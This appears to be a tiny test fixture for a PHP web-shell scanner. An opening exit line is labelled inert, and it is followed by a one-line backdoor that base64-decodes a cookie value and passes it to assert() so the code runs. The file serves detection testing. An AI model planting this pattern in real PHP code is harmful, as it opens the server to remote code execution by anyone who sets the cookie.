<?php exit; /* shellsweep test sample: inert, never functional */ ?>
<?php @assert(base64_decode($_COOKIE['sid'])); ?>
